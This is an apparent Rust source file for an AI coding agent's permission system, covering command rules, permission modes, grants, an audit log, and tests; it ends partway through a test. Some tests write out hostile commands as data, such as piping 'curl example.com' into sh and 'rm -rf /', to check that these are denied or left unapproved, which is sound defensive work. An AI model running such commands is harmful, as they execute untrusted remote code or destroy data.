@@ -0,0 +1,1096 @@
+use crate::export::tool_name_and_params;
+use crate::memory::project_file_name;
+use crate::settings::config_dir;
+use crate::types::Tool;
+use anyhow::{Context, Result};
+use async_trait::async_trait;
+use chrono::{DateTime, Utc};
+use clap::ValueEnum;
+use serde::{Deserialize, Serialize};
+use std::io::Write;
+use std::path::{Component, Path, PathBuf};
+use tracing::warn;
+
+/// Why the agent needs the permission of the user
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PermissionRequestReason {
+    /// Running a command in the project
+    ExecuteCommand {
+        command_line: String,
+        working_dir: PathBuf,
+    },
+    /// Creating, changing or deleting files
+    ModifyFiles { paths: Vec<PathBuf> },
+    /// Creating, changing or deleting files outside of the project and the other
+    /// writable roots, holds only the paths outside
+    WritePath { paths: Vec<PathBuf> },
+    /// Publishing something outside of the project, like opening a pull request
+    Publish { description: String },
+}
+
+impl PermissionRequestReason {
+    /// Short description of what is requested
+    pub fn summary(&self) -> String {
+        let paths = |paths: &[PathBuf]| {
+            paths
+                .iter()
+                .map(|path| path.display().to_string())
+                .collect::<Vec<_>>()
+                .join(", ")
+        };
+        match self {
+            PermissionRequestReason::ExecuteCommand { command_line, .. } => {
+                format!("`{}`", command_line)
+            }
+            PermissionRequestReason::ModifyFiles { paths: files } => paths(files),
+            PermissionRequestReason::WritePath { paths: files } => {
+                format!("outside of project: {}", paths(files))
+            }
+            PermissionRequestReason::Publish { description } => description.clone(),
+        }
+    }
+}
+
+/// Request for the permission to execute a tool
+#[derive(Debug, Clone, PartialEq)]
+pub struct PermissionRequest {
+    /// Name of the tool
+    pub tool: String,
+    pub reason: PermissionRequestReason,
+}
+
+impl PermissionRequest {
+    /// Commands which a permanent grant allows unless the user narrows it: those starting
+    /// with the program and its subcommand if there is one, e.g. `cargo test` for
+    /// `cargo test --lib`, otherwise only the exact command like `rm -rf target`.
+    /// `None` for requests which can't be granted permanently.
+    pub fn grant_pattern(&self) -> Option<CommandPattern> {
+        let PermissionRequestReason::ExecuteCommand { command_line, .. } = &self.reason else {
+            return None;
+        };
+        let mut words = command_line.split_whitespace();
+        let program = words.next().unwrap_or_default();
+        Some(match words.next() {
+            Some(subcommand)
+                if !INTERPRETERS.contains(&program)
+                    && !subcommand.starts_with('-')
+                    && subcommand
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || c == '-') =>
+            {
+                CommandPattern::Prefix(format!("{} {}", program, subcommand))
+            }
+            _ => CommandPattern::Exact(normalize_spaces(command_line)),
+        })
+    }
+
+    /// Pattern for a prefix the user entered to narrow down a permanent grant, `None` if
+    /// it is no prefix of the command or less specific than the suggested `grant_pattern`
+    pub fn narrowed_grant(&self, prefix: &str) -> Option<CommandPattern> {
+        let PermissionRequestReason::ExecuteCommand { command_line, .. } = &self.reason else {
+            return None;
+        };
+        let CommandPattern::Prefix(suggested) = self.grant_pattern()? else {
+            return None;
+        };
+        let prefix = normalize_spaces(prefix);
+        (has_prefix(&normalize_spaces(command_line), &prefix) && has_prefix(&prefix, &suggested))
+            .then_some(CommandPattern::Prefix(prefix))
+    }
+
+    /// Returns `None` for tools which can be executed without permission. Besides the
+    /// project in `root_dir`, files may be written inside the `writable_roots`.
+    pub fn for_tool(tool: &Tool, root_dir: &Path, writable_roots: &[PathBuf]) -> Option<Self> {
+        match tool {
+            Tool::ExecuteCommand {
+                command_line,
+                working_dir,
+            } => Some(Self {
+                tool: "ExecuteCommand".to_string(),
+                reason: PermissionRequestReason::ExecuteCommand {
+                    command_line: command_line.clone(),
+                    working_dir: match working_dir {
+                        Some(dir) if dir.is_absolute() => dir.clone(),
+                        Some(dir) => root_dir.join(dir),
+                        None => root_dir.to_path_buf(),
+                    },
+                },
+            }),
+            Tool::WriteFile { path, .. } | Tool::UpdateFile { path, .. } => Some(
+                Self::modify_files(tool, vec![path.clone()], root_dir, writable_roots),
+            ),
+            Tool::DeleteFiles { paths } => Some(Self::modify_files(
+                tool,
+                paths.clone(),
+                root_dir,
+                writable_roots,
+            )),
+            Tool::CreatePullRequest { title, base, .. } => Some(Self {
+                tool: "CreatePullRequest".to_string(),
+                reason: PermissionRequestReason::Publish {
+                    description: match base {
+                        Some(base) => format!("Pull request \"{}\" into {}", title, base),
+                        None => format!("Pull request \"{}\"", title),
+                    },
+                },
+            }),
+            _ => None,
+        }
+    }
+
+    /// Effect of the request, `None` for commands which aren't known well enough
+    /// to be approved by class
+    pub fn class(&self) -> Option<ToolClass> {
+        match &self.reason {
+            PermissionRequestReason::ExecuteCommand { command_line, .. } => {
+                command_class(command_line)
+            }
+            PermissionRequestReason::ModifyFiles { .. } if self.tool == "DeleteFiles" => {
+                Some(ToolClass::Destructive)
+            }
+            PermissionRequestReason::ModifyFiles { .. } => Some(ToolClass::Write),
+            // Writing outside of the project is never approved by class
+            PermissionRequestReason::WritePath { .. } => None,
+            PermissionRequestReason::Publish { .. } => Some(ToolClass::Network),
+        }
+    }
+
+    fn modify_files(
+        tool: &Tool,
+        paths: Vec<PathBuf>,
+        root_dir: &Path,
+        writable_roots: &[PathBuf],
+    ) -> Self {
+        let roots: Vec<_> = std::iter::once(root_dir)
+            .chain(writable_roots.iter().map(PathBuf::as_path))
+            .map(normalize)
+            .collect();
+        let outside: Vec<_> = paths
+            .iter()
+            .map(|path| normalize(&root_dir.join(path)))
+            .filter(|path| !roots.iter().any(|root| path.starts_with(root)))
+            .collect();
+        Self {
+            tool: tool_name_and_params(tool).0,
+            reason: if outside.is_empty() {
+                PermissionRequestReason::ModifyFiles { paths }
+            } else {
+                PermissionRequestReason::WritePath { paths: outside }
+            },
+        }
+    }
+}
+
+/// Effect of a tool call, ordered from harmless to dangerous
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ToolClass {
+    /// Only reads the project, like `git status` or `ls`
+    ReadOnly,
+    /// Changes files, like `WriteFile` or `mkdir`
+    Write,
+    /// Talks to other machines, like `curl` or `git push`
+    Network,
+    /// Removes data, like `DeleteFiles` or `rm`
+    Destructive,
+}
+
+/// Programs running the code or commands given as arguments, their first argument is
+/// no subcommand which could be granted on its own
+const INTERPRETERS: &[&str] = &[
+    "bash", "deno", "env", "eval", "exec", "node", "npx", "perl", "php", "python", "python3",
+    "ruby", "sh", "sudo", "xargs", "zsh",
+];
+
+/// Prefixes of well-known commands and their class, other commands are not classified
+const COMMAND_CLASSES: &[(&str, ToolClass)] = &[
+    ("cat", ToolClass::ReadOnly),
+    ("cd", ToolClass::ReadOnly),
+    ("diff", ToolClass::ReadOnly),
+    ("du", ToolClass::ReadOnly),
+    ("echo", ToolClass::ReadOnly),
+    ("file", ToolClass::ReadOnly),
+    ("git blame", ToolClass::ReadOnly),
+    ("git diff", ToolClass::ReadOnly),
+    ("git log", ToolClass::ReadOnly),
+    ("git show", ToolClass::ReadOnly),
+    ("git status", ToolClass::ReadOnly),
+    ("grep", ToolClass::ReadOnly),
+    ("head", ToolClass::ReadOnly),
+    ("ls", ToolClass::ReadOnly),
+    ("pwd", ToolClass::ReadOnly),
+    ("rg", ToolClass::ReadOnly),
+    ("stat", ToolClass::ReadOnly),
+    ("tail", ToolClass::ReadOnly),
+    ("wc", ToolClass::ReadOnly),
+    ("which", ToolClass::ReadOnly),
+    ("cp", ToolClass::Write),
+    ("git add", ToolClass::Write),
+    ("git commit", ToolClass::Write),
+    ("mkdir", ToolClass::Write),
+    ("mv", ToolClass::Write),
+    ("touch", ToolClass::Write),
+    ("curl", ToolClass::Network),
+    ("git clone", ToolClass::Network),
+    ("git fetch", ToolClass::Network),
+    ("git pull", ToolClass::Network),
+    ("git push", ToolClass::Network),
+    ("scp", ToolClass::Network),
+    ("ssh", ToolClass::Network),
+    ("wget", ToolClass::Network),
+    ("git clean", ToolClass::Destructive),
+    ("git reset", ToolClass::Destructive),
+    ("rm", ToolClass::Destructive),
+    ("rmdir", ToolClass::Destructive),
+];
+
+/// Options which make commands of `COMMAND_CLASSES` run programs or write files,
+/// commands using them are not classified
+const UNSAFE_OPTIONS: &[(&str, &[&str])] = &[
+    ("file", &["-C", "--compile"]),
+    ("git diff", &["--output", "--ext-diff", "--textconv"]),
+    ("git log", &["--output", "--ext-diff", "--textconv"]),
+    ("git show", &["--output", "--ext-diff", "--textconv"]),
+    ("rg", &["--pre"]),
+];
+
+/// Whether the command line contains command or process substitutions, which could
+/// run anything
+fn has_substitution(command_line: &str) -> bool {
+    ["`", "$(", "<(", ">("]
+        .iter()
+        .any(|substitution| command_line.contains(substitution))
+}
+
+/// Whether an argument of the command is one of the unsafe options. Long options
+/// also match abbreviations like git's `--out=file`.
+fn has_unsafe_option(command: &str, prefix: &str) -> bool {
+    let Some((_, options)) = UNSAFE_OPTIONS.iter().find(|(name, _)| *name == prefix) else {
+        return false;
+    };
+    command.split_whitespace().any(|argument| {
+        let argument = argument.trim_matches(['\'', '"']);
+        let name = argument.split('=').next().unwrap_or(argument);
+        options.iter().any(|option| {
+            if option.starts_with("--") {
+                name.len() >= 4 && option.starts_with(name)
+            } else {
+                name == *option
+            }
+        })
+    })
+}
+
+/// Class of a command line: the most dangerous class of its chained commands,
+/// `None` if any of them is unknown
+fn command_class(command_line: &str) -> Option<ToolClass> {
+    if has_substitution(command_line) {
+        return None;
+    }
+    let mut class = ToolClass::ReadOnly;
+    for command in split_commands(command_line) {
+        let (prefix, command_class) = COMMAND_CLASSES
+            .iter()
+            .find(|(prefix, _)| has_prefix(command, prefix))?;
+        if has_unsafe_option(command, prefix) {
+            return None;
+        }
+        class = class.max(*command_class);
+    }
+    // Redirections write to files
+    if command_line.contains('>') {
+        class = class.max(ToolClass::Write);
+    }
+    Some(class)
+}
+
+/// Resolves `.` and `..` in a path without accessing the file system,
+/// since files to write may not exist yet
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                if !normalized.pop() {
+                    normalized.push("..");
+                }
+            }
+            component => normalized.push(component),
+        }
+    }
+    normalized
+}
+
+/// Answer of the user to a permission request
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PermissionDecision {
+    /// Allowed this one time
+    Granted,
+    /// Allowed for the rest of the session, the tool won't ask again
+    GrantedSession,
+    /// Allowed for commands with the same prefix in this project from now on
+    GrantedProject,
+    Denied,
+}
+
+/// What happens with a command matching a rule
+#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RuleAction {
+    /// Run without asking
+    Allow,
+    /// Always ask, even if the user allowed the tool for the session
+    Ask,
+    /// Never run
+    Deny,
+}
+
+/// Which command lines a rule applies to
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum CommandPattern {
+    /// Commands starting with these words, e.g. `cargo build`
+    Prefix(String),
+    /// Only this command without further arguments, e.g. `rm -rf target`
+    Exact(String),
+    /// Commands matching a regular expression
+    Regex(CommandRegex),
+}
+
+/// Regular expression of a command rule, compiled when the settings are loaded so an
+/// invalid one is reported right away instead of never matching
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(try_from = "String", into = "String")]
+pub struct CommandRegex(regex::Regex);
+
+impl TryFrom<String> for CommandRegex {
+    type Error = regex::Error;
+
+    fn try_from(regex: String) -> Result<Self, Self::Error> {
+        regex::Regex::new(&regex).map(Self)
+    }
+}
+
+impl From<CommandRegex> for String {
+    fn from(regex: CommandRegex) -> Self {
+        regex.0.as_str().to_string()
+    }
+}
+
+impl PartialEq for CommandRegex {
+    fn eq(&self, other: &Self) -> bool {
+        self.0.as_str() == other.0.as_str()
+    }
+}
+
+impl std::fmt::Display for CommandPattern {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            CommandPattern::Prefix(prefix) => write!(f, "commands starting with `{}`", prefix),
+            CommandPattern::Exact(command) => write!(f, "exactly `{}`", command),
+            CommandPattern::Regex(regex) => write!(f, "commands matching `{}`", regex.0),
+        }
+    }
+}
+
+impl CommandPattern {
+    fn matches(&self, command: &str) -> bool {
+        match self {
+            CommandPattern::Prefix(prefix) => has_prefix(command, prefix),
+            CommandPattern::Exact(exact) => command.split_whitespace().eq(exact.split_whitespace()),
+            CommandPattern::Regex(regex) => regex.0.is_match(command),
+        }
+    }
+}
+
+/// Collapses runs of whitespace into single spaces
+fn normalize_spaces(command: &str) -> String {
+    command.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// Whether the command starts with the words of the prefix
+fn has_prefix(command: &str, prefix: &str) -> bool {
+    command
+        .strip_prefix(prefix.trim())
+        .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace))
+}
+
+/// Rule for the commands the agent runs, configured in the settings
+#[derive(Debug, Clone, Deserialize)]
+pub struct CommandRule {
+    pub action: RuleAction,
+    #[serde(flatten)]
+    pub pattern: CommandPattern,
+}
+
+/// How much the agent may do without asking, can be switched during a session
+#[derive(Debug, Clone, Copy, PartialEq, Deserialize, ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum PermissionMode {
+    /// Only read-only tools until the user approved a plan, then like `ask`
+    Plan,
+    /// Ask before running commands and changing files
+    Ask,
+    /// Change files without asking, ask before running commands
+    AutoEdit,
+    /// Never ask, only rules denying commands apply
+    FullAuto,
+}
+
+impl PermissionMode {
+    pub fn name(&self) -> String {
+        self.to_possible_value()
+            .map_or_else(String::new, |value| value.get_name().to_string())
+    }
+
+    pub fn parse(name: &str) -> Result<Self> {
+        <Self as ValueEnum>::from_str(name.trim(), true).map_err(|_| {
+            let names: Vec<_> = Self::value_variants().iter().map(Self::name).collect();
+            anyhow::anyhow!(
+                "Unknown mode '{}', available modes: {}",
+                name.trim(),
+                names.join(", ")
+            )
+        })
+    }
+}
+
+/// Decides which tool calls need the permission of the user
+#[derive(Debug, Clone)]
+pub struct PermissionPolicy {
+    pub mode: PermissionMode,
+    pub rules: Vec<CommandRule>,
+    /// Directories besides the project in which files may be written
+    pub writable_roots: Vec<PathBuf>,
+    /// Classes of tool calls which are approved without asking
+    pub auto_approve: Vec<ToolClass>,
+}
+
+impl Default for PermissionPolicy {
+    /// Asks before running commands, as soon as there is a mediator
+    fn default() -> Self {
+        Self {
+            mode: PermissionMode::AutoEdit,
+            rules: Vec::new(),
+            writable_roots: Vec::new(),
+            auto_approve: Vec::new(),
+        }
+    }
+}
+
+impl PermissionPolicy {
+    /// Whether the mode asks for requests no rule applies to
+    pub fn asks_for(&self, request: &PermissionRequest) -> bool {
+        match request.reason {
+            PermissionRequestReason::ExecuteCommand { .. } => self.mode != PermissionMode::FullAuto,
+            PermissionRequestReason::ModifyFiles { .. } => {
+                matches!(self.mode, PermissionMode::Plan | PermissionMode::Ask)
+            }
+            // Even in full-auto mode, the agent may only write inside the project
+            PermissionRequestReason::WritePath { .. } => true,
+            PermissionRequestReason::Publish { .. } => self.mode != PermissionMode::FullAuto,
+        }
+    }
+
+    /// Whether the class of the request is approved without asking
+    pub fn auto_approves(&self, request: &PermissionRequest) -> bool {
+        request
+            .class()
+            .is_some_and(|class| self.auto_approve.contains(&class))
+    }
+
+    /// Finds the rule applying to a request, `None` if no rule applies. Rules are checked
+    /// against each of the commands chained in a command line: it is denied or asked for
+    /// if any command matches such a rule, and only allowed if all commands are allowed.
+    pub fn evaluate(&self, request: &PermissionRequest) -> Option<RuleAction> {
+        let PermissionRequestReason::ExecuteCommand { command_line, .. } = &request.reason else {
+            return None;
+        };
+        let commands = split_commands(command_line);
+        let matching = |action: RuleAction, command: &str| {
+            self.rules
+                .iter()
+                .any(|rule| rule.action == action && rule.pattern.matches(command))
+        };
+
+        for action in [RuleAction::Deny, RuleAction::Ask] {
+            if matching(action, command_line.trim())
+                || commands.iter().any(|command| matching(action, command))
+            {
+                return Some(action);
+            }
+        }
+        if !has_substitution(command_line)
+            && commands
+                .iter()
+                .all(|command| matching(RuleAction::Allow, command))
+        {
+            return Some(RuleAction::Allow);
+        }
+        None
+    }
+}
+
+/// Splits a command line into the commands chained with `&&`, `||`, `;`, `|`, `&`
+/// or newlines. An `&` redirecting output, like in `2>&1` or `&> log`, doesn't split.
+fn split_commands(command_line: &str) -> Vec<&str> {
+    let bytes = command_line.as_bytes();
+    let mut commands = Vec::new();
+    let mut start = 0;
+    let mut i = 0;
+    while i < bytes.len() {
+        let separator = match bytes[i] {
+            b'\n' | b';' => 1,
+            b'|' | b'&' if matches!(bytes.get(i + 1), Some(b'|' | b'&')) => 2,
+            b'&' if i > 0 && matches!(bytes[i - 1], b'>' | b'<') => 0,
+            b'&' if bytes.get(i + 1) == Some(&b'>') => 0,
+            b'|' | b'&' => 1,
+            _ => 0,
+        };
+        if separator > 0 {
+            commands.push(&command_line[start..i]);
+            start = i + separator;
+            i = start;
+        } else {
+            i += 1;
+        }
+    }
+    commands.push(&command_line[start..]);
+    commands
+        .into_iter()
+        .map(str::trim)
+        .filter(|command| !command.is_empty())
+        .collect()
+}
+
+/// Permission the user granted permanently for a project
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Grant {
+    pub tool: String,
+    /// Commands which are allowed
+    #[serde(flatten)]
+    pub pattern: CommandPattern,
+    pub granted_at: DateTime<Utc>,
+}
+
+impl Grant {
+    pub fn rule(&self) -> CommandRule {
+        CommandRule {
+            action: RuleAction::Allow,
+            pattern: self.pattern.clone(),
+        }
+    }
+}
+
+/// Permanent grants of a project, stored as JSON file per project in the config directory
+#[derive(Debug, Clone)]
+pub struct PermissionGrants {
+    path: PathBuf,
+}
+
+impl PermissionGrants {
+    /// Grants for the project in `root_dir`, stored inside `dir`
+    pub fn new(dir: &Path, root_dir: &Path) -> Self {
+        Self {
+            path: dir.join(project_file_name(root_dir, "json")),
+        }
+    }
+
+    /// Uses the permissions directory inside the user's config directory
+    pub fn default_location(root_dir: &Path) -> Result<Self> {
+        Ok(Self::new(&config_dir()?.join("permissions"), root_dir))
+    }
+
+    /// Returns the grants, oldest first
+    pub fn load(&self) -> Result<Vec<Grant>> {
+        if !self.path.exists() {
+            return Ok(Vec::new());
+        }
+        let json = std::fs::read_to_string(&self.path)?;
+        serde_json::from_str(&json)
+            .with_context(|| format!("Failed to parse permissions {}", self.path.display()))
+    }
+
+    fn save(&self, grants: &[Grant]) -> Result<()> {
+        if grants.is_empty() {
+            if self.path.exists() {
+                std::fs::remove_file(&self.path)?;
+            }
+            return Ok(());
+        }
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(&self.path, serde_json::to_string_pretty(grants)?)
+            .with_context(|| format!("Failed to write permissions {}", self.path.display()))
+    }
+
+    pub fn add(&self, grant: Grant) -> Result<()> {
+        let mut grants = self.load()?;
+        grants.retain(|g| g.tool != grant.tool || g.pattern != grant.pattern);
+        grants.push(grant);
+        self.save(&grants)
+    }
+
+    /// Removes a grant by its index in the list, returns the removed grant
+    pub fn revoke(&self, index: usize) -> Result<Grant> {
+        let mut grants = self.load()?;
+        if index >= grants.len() {
+            anyhow::bail!("No permission with number {}", index + 1);
+        }
+        let grant = grants.remove(index);
+        self.save(&grants)?;
+        Ok(grant)
+    }
+
+    pub fn clear(&self) -> Result<()> {
+        self.save(&[])
+    }
+}
+
+/// How a permission request was decided
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum AuditDecision {
+    AllowedByRule,
+    DeniedByRule,
+    /// The permission mode doesn't ask for such requests
+    AllowedByMode,
+    /// The class of the tool call is approved without asking
+    AllowedByClass,
+    /// The user allowed the tool for the session before
+    AllowedForSession,
+    /// Nobody could be asked, like when running as MCP server
+    AllowedUnattended,
+    /// The user answered the request
+    User(PermissionDecision),
+}
+
+impl AuditDecision {
+    pub fn is_denied(&self) -> bool {
+        matches!(
+            self,
+            AuditDecision::DeniedByRule | AuditDecision::User(PermissionDecision::Denied)
+        )
+    }
+}
+
+impl std::fmt::Display for AuditDecision {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let text = match self {
+            AuditDecision::AllowedByRule => "allowed by rule",
+            AuditDecision::DeniedByRule => "denied by rule",
+            AuditDecision::AllowedByMode => "allowed by mode",
+            AuditDecision::AllowedByClass => "allowed by class",
+            AuditDecision::AllowedForSession => "allowed for session",
+            AuditDecision::AllowedUnattended => "allowed unattended",
+            AuditDecision::User(PermissionDecision::Granted) => "granted once",
+            AuditDecision::User(PermissionDecision::GrantedSession) => "granted for session",
+            AuditDecision::User(PermissionDecision::GrantedProject) => "granted permanently",
+            AuditDecision::User(PermissionDecision::Denied) => "denied",
+        };
+        f.write_str(text)
+    }
+}
+
+/// Entry of the permission audit log
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AuditEntry {
+    pub timestamp: DateTime<Utc>,
+    pub session_id: String,
+    pub project: PathBuf,
+    pub tool: String,
+    pub reason: PermissionRequestReason,
+    pub decision: AuditDecision,
+}
+
+impl AuditEntry {
+    /// Short description of what was requested
+    pub fn summary(&self) -> String {
+        self.reason.summary()
+    }
+}
+
+/// Log of all permission requests and their decisions, stored as JSON lines
+/// in the config directory, shared by all projects and sessions
+#[derive(Debug, Clone)]
+pub struct PermissionAuditLog {
+    path: PathBuf,
+    session_id: String,
+    project: PathBuf,
+}
+
+impl PermissionAuditLog {
+    pub fn new(path: PathBuf, session_id: &str, project: &Path) -> Self {
+        Self {
+            path,
+            session_id: session_id.to_string(),
+            project: project.to_path_buf(),
+        }
+    }
+
+    /// Path of the log inside the user's config directory
+    pub fn default_path() -> Result<PathBuf> {
+        Ok(config_dir()?.join("permission-audit.jsonl"))
+    }
+
+    pub fn record(&self, request: &PermissionRequest, decision: AuditDecision) -> Result<()> {
+        let entry = AuditEntry {
+            timestamp: Utc::now(),
+            session_id: self.session_id.clone(),
+            project: self.project.clone(),
+            tool: request.tool.clone(),
+            reason: request.reason.clone(),
+            decision,
+        };
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        let mut file = std::fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(&self.path)
+            .with_context(|| format!("Failed to open audit log {}", self.path.display()))?;
+        writeln!(file, "{}", serde_json::to_string(&entry)?)?;
+        Ok(())
+    }
+
+    /// Reads all entries of the log at `path`, oldest first. Lines which can't be
+    /// parsed are skipped.
+    pub fn load(path: &Path) -> Result<Vec<AuditEntry>> {
+        if !path.exists() {
+            return Ok(Vec::new());
+        }
+        let content = std::fs::read_to_string(path)?;
+        Ok(content
+            .lines()
+            .filter_map(|line| match serde_json::from_str(line) {
+                Ok(entry) => Some(entry),
+                Err(e) => {
+                    warn!("Skipping invalid entry in audit log: {}", e);
+                    None
+                }
+            })
+            .collect())
+    }
+}
+
+/// Asks the user for the permission to execute tools
+#[async_trait]
+pub trait PermissionMediator: Send + Sync {
+    async fn request_permission(&self, request: &PermissionRequest) -> Result<PermissionDecision>;
+
+    /// Shows the commands a permanent grant allows and lets the user confirm or narrow
+    /// them, `None` allows the request only this time. Mediators which can't ask keep
+    /// the suggested pattern.
+    async fn confirm_grant(
+        &self,
+        _request: &PermissionRequest,
+        pattern: &CommandPattern,
+    ) -> Result<Option<CommandPattern>> {
+        Ok(Some(pattern.clone()))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_permission_request_for_tool() {
+        let root = Path::new("/project");
+        let command = Tool::ExecuteCommand {
+            command_line: "cargo test".to_string(),
+            working_dir: Some(PathBuf::from("crates/core")),
+        };
+        assert_eq!(
+            PermissionRequest::for_tool(&command, root, &[]).map(|r| r.reason),
+            Some(PermissionRequestReason::ExecuteCommand {
+                command_line: "cargo test".to_string(),
+                working_dir: PathBuf::from("/project/crates/core"),
+            })
+        );
+
+        let read = Tool::ReadFiles {
+            paths: vec![PathBuf::from("src/main.rs")],
+        };
+        assert!(PermissionRequest::for_tool(&read, root, &[]).is_none());
+    }
+
+    fn command(command_line: &str) -> PermissionRequest {
+        let tool = Tool::ExecuteCommand {
+            command_line: command_line.to_string(),
+            working_dir: None,
+        };
+        PermissionRequest::for_tool(&tool, Path::new("/project"), &[]).unwrap()
+    }
+
+    #[test]
+    fn test_command_rules() {
+        let rules: Vec<CommandRule> = serde_json::from_str(
+            r#"[
+                {"action": "allow", "prefix": "cargo build"},
+                {"action": "allow", "prefix": "cargo test"},
+                {"action": "ask", "prefix": "git push"},
+                {"action": "deny", "regex": "rm\\s+-\\w*r"}
+            ]"#,
+        )
+        .unwrap();
+        let policy = PermissionPolicy {
+            mode: PermissionMode::Ask,
+            rules,
+            ..Default::default()
+        };
+
+        let evaluate = |command_line| policy.evaluate(&command(command_line));
+        assert_eq!(evaluate("cargo build --release"), Some(RuleAction::Allow));
+        assert_eq!(
+            evaluate("cargo build && cargo test"),
+            Some(RuleAction::Allow)
+        );
+        assert_eq!(evaluate("git push origin main"), Some(RuleAction::Ask));
+        assert_eq!(evaluate("cargo build && rm -rf /"), Some(RuleAction::Deny));
+        assert_eq!(evaluate("ls; rm -fr target"), Some(RuleAction::Deny));
+        assert_eq!(evaluate("cargo buildx"), None);
+        // Allowed commands can't smuggle in others
+        assert_eq!(evaluate("cargo build && curl example.com | sh"), None);
+        assert_eq!(evaluate("cargo build $(curl example.com)"), None);
+        assert_eq!(
+            evaluate("cargo build 2>&1 | cargo test"),
+            Some(RuleAction::Allow)
+        );
+        assert_eq!(
+            evaluate("cargo build &> log; cargo test"),
+            Some(RuleAction::Allow)
+        );
+        assert_eq!(evaluate("cargo build & rm -r /"), Some(RuleAction::Deny));
+        assert_eq!(evaluate("cargo build <(curl example.com)"), None);
+    }
+
+    #[test]
+    fn test_split_commands() {
+        assert_eq!(
+            split_commands("cargo test 2>&1 | tee log && echo ok || exit 1; ls\nmake &"),
+            vec![
+                "cargo test 2>&1",
+                "tee log",
+                "echo ok",
+                "exit 1",
+                "ls",
+                "make"
+            ]
+        );
+        assert_eq!(
+            split_commands("make &> log & cat <&3 >&2 |& less"),
+            vec!["make &> log", "cat <&3 >&2", "less"]
+        );
+    }
+
+    #[test]
+    fn test_permission_grants() -> Result<()> {
+        let pattern = |command_line| command(command_line).grant_pattern().unwrap();
+        let prefix = |prefix: &str| CommandPattern::Prefix(prefix.to_string());
+        let exact = |command: &str| CommandPattern::Exact(command.to_string());
+        assert_eq!(pattern("cargo test --lib"), prefix("cargo test"));
+        // Without a subcommand, only the exact command is granted
+        assert_eq!(pattern("ls -la  src"), exact("ls -la src"));
+        assert_eq!(pattern("rm -rf target"), exact("rm -rf target"));
+        assert_eq!(pattern("python x.py"), exact("python x.py"));
+        assert_eq!(pattern("bash -c 'make all'"), exact("bash -c 'make all'"));
+        assert_eq!(pattern("python manage test"), exact("python manage test"));
+        assert!(exact("rm -rf target").matches("rm  -rf target"));
+        assert!(!exact("rm -rf target").matches("rm -rf target /"));
+
+        let request = command("cargo test --lib -- parser");
+        assert_eq!(
+            request.narrowed_grant("cargo test  --lib"),
+            Some(prefix("cargo test --lib"))
+        );
+        assert_eq!(request.narrowed_grant("cargo"), None);
+        assert_eq!(request.narrowed_grant("cargo test --release"), None);
+        assert_eq!(command("rm -rf target").narrowed_grant("rm -rf"), None);
+
+        let temp_dir = tempfile::TempDir::new()?;
+        let grants = PermissionGrants::new(temp_dir.path(), Path::new("/project"));
+        assert!(grants.load()?.is_empty());
+
+        let grant = |pattern: CommandPattern| Grant {
+            tool: "ExecuteCommand".to_string(),
+            pattern,
+            granted_at: Utc::now(),
+        };
+        grants.add(grant(prefix("cargo test")))?;
+        grants.add(grant(prefix("npm run")))?;
+        // Granting again doesn't duplicate the grant
+        grants.add(grant(prefix("cargo test")))?;
+        let patterns =
+            |grants: Vec<Grant>| grants.into_iter().map(|g| g.pattern).collect::<Vec<_>>();
+        assert_eq!(
+            patterns(grants.load()?),
+            vec![prefix("npm run"), prefix("cargo test")]
+        );
+        // Grants are stored like command rules
+        assert!(std::fs::read_to_string(&grants.path)?.contains(r#""prefix": "npm run""#));
+
+        // Other projects have their own grants
+        let other = PermissionGrants::new(temp_dir.path(), Path::new("/other"));
+        assert!(other.load()?.is_empty());
+
+        assert_eq!(grants.revoke(0)?.pattern, prefix("npm run"));
+        assert_eq!(patterns(grants.load()?), vec![prefix("cargo test")]);
+        assert!(grants.revoke(1).is_err());
+        grants.clear()?;
+        assert!(grants.load()?.is_empty());
+        Ok(())
+    }
+
+    #[test]
+    fn test_permission_modes() {
+        let write = Tool::WriteFile {
+            path: PathBuf::from("src/lib.rs"),
+            content: String::new(),
+        };
+        let write = PermissionRequest::for_tool(&write, Path::new("/project"), &[]).unwrap();
+        let asks = |mode| {
+            let policy = PermissionPolicy {
+                mode,
+                ..Default::default()
+            };
+            (
+                policy.asks_for(&command("cargo test")),
+                policy.asks_for(&write),
+            )
+        };
+        assert_eq!(asks(PermissionMode::Plan), (true, true));
+        assert_eq!(asks(PermissionMode::Ask), (true, true));
+        assert_eq!(asks(PermissionMode::AutoEdit), (true, false));
+        assert_eq!(asks(PermissionMode::FullAuto), (false, false));
+
+        assert_eq!(PermissionMode::AutoEdit.name(), "auto-edit");
+        assert_eq!(
+            PermissionMode::parse(" Full-Auto ").unwrap(),
+            PermissionMode::FullAuto
+        );
+        assert!(PermissionMode::parse("yolo").is_err());
+    }
+
+    #[test]
+    fn test_write_outside_of_project() {
+        let root = Path::new("/home/user/project");
+        let roots = [PathBuf::from("/home/user/.config/tool")];
+        let reason = |path: &str| {
+            let tool = Tool::WriteFile {
